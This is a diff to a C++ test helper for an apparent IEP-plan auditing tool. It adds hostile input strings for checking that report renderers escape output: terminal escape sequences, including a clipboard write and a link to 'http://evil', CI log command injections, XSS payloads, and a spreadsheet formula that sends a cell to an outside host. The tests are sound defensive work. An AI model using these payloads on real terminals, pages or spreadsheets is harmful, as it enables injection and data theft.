@@ -4,6 +4,7 @@
 #include "iepaudit/rule.hpp"
 #include "support/audited.hpp"
 
+#include <algorithm>
 #include <sstream>
 
 namespace iepaudit::test {
@@ -13,6 +14,9 @@ const std::vector<std::string>& hostile_words() {
     static const std::vector<std::string> words{
         "\x1b[2J\x1b[1;1HNo problems found",
         "\x1b]0;owned\x07",
+        "\x1b]52;c;ZXZpbA==\x07",
+        "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\",
+        "\x1b[1A\rharmless.json",
         "\xC2\x9B"
         "31m",
         "a\rOK   ",
@@ -22,8 +26,18 @@ const std::vector<std::string>& hostile_words() {
         "x\n::stop-commands::t",
         "x\r::add-mask::e",
         "100%0A::error::z",
+        "::error file=a::b.json",
+        "a,line=9:b.json",
+        "##[error]x.json",
+        "##vso[task.complete]",
+        "##teamcity[x]",
         "<img src=x onerror=alert(1)>",
         "\"><script>alert(1)</script>",
+        "</title><svg/onload=alert(1)>",
+        "<svg onload=alert(1)>.json",
+        "</script>",
+        "javascript:alert(1)",
+        "{{constructor}}",
         "\xEF\xBF\xBE",
         "]]>",
         "<![CDATA[",
@@ -32,6 +46,10 @@ const std::vector<std::string>& hostile_words() {
         "a|b",
         "`",
         "[x](javascript:1)",
+        "![](http://e/p.png)",
+        "@everyone #1",
+        "<!--",
+        "\n# H",
         "=HYPERLINK(\"http://e/?x=\"&A1,\"ok\")",
         "+cmd|' /C calc'!A0",
         "-2+3",
@@ -43,6 +61,8 @@ const std::vector<std::string>& hostile_words() {
         "bad\xff.json",
         "a\\b",
         "a b#1?.json",
+        "100%.json",
+        "x:y.json",
         "Nu\u00F1ez",
         "\u2028",
         "\U0001F600",
@@ -75,6 +95,22 @@ FileReport report_on(std::string path, std::vector<ReportedFinding> findings) {
     return report;
 }
 
+FileReport hostile_row(const std::string& words) {
+    const Json goals = Json::array({words});
+    const Json row = {{"service", words},  {"frequency", words}, {"provider", words},
+                      {"location", words}, {"groupSize", words}, {"goals", goals}};
+    Json timed = row;
+    timed["frequency"] = "30 minutes weekly";
+    const Json plan = {{"student", {{"grade", words}}},
+                       {"services", Json::array({row, timed})},
+                       {"goals", Json::array({{{"id", words}, {"area", words}, {"statement", words}}})},
+                       {"presentLevels", Json::array({words})},
+                       {words, words}};
+    FileReport report = audited_text(plan.dump(-1, ' ', false, Json::error_handler_t::replace));
+    report.path = words;
+    return report;
+}
+
 FileReport refused(std::string path, std::string because) {
     return unreadable_file(path, because);
 }
@@ -103,6 +139,30 @@ std::string rendered(std::string_view format, const std::vector<FileReport>& rep
     }
     reporter->end(summary);
     return out.str();
+}
+
+std::set<std::string> markup_in(std::string_view text) {
+    std::set<std::string> found;
+    for (std::size_t at = text.find('<'); at != std::string_view::npos; at = text.find('<', at)) {
+        const std::size_t name_end = text.find_first_of(" \n>", at);
+        const std::string name(text.substr(at + 1, name_end - at - 1));
+        found.insert(name);
+        at = name_end;
+        while (at < text.size() && text[at] != '>') {
+            at = text.find_first_not_of(" \n", at);
+            const std::size_t end = std::min(text.find_first_of("= \n>", at), text.size());
+            if (end > at) {
+                found.insert(name + ' ' + std::string(text.substr(at, end - at)));
+            }
+            at = end;
+            if (at < text.size() && text[at] == '=') {
+                const std::size_t open = at + 1; // every value of ours is quoted
+                at = open < text.size() ? text.find(text[open], open + 1) : text.size();
+                at = at == std::string_view::npos ? text.size() : at + 1;
+            }
+        }
+    }
+    return found;
 }
 
 std::size_t times(std::string_view text, std::string_view word) {
